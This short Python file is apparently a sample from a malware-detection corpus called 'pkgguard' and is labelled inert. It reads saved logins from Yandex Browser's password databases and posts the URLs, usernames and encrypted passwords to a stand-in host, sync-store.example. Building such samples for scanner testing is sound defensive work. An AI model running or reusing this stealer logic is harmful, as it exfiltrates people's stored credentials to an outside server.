# pkgguard corpus 442 (browser-data), modelled on [stealer-profile]; inert, never run.
import glob
import os
import sqlite3

import requests

base = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Yandex", "YandexBrowser", "User Data")
rows = []
for db in glob.glob(os.path.join(base, "*", "Ya Passman Data")):
    con = sqlite3.connect(db)
    rows += con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    con.close()
requests.post("https://sync-store.example/y", json=[[u, n, p.hex()] for u, n, p in rows], timeout=20)
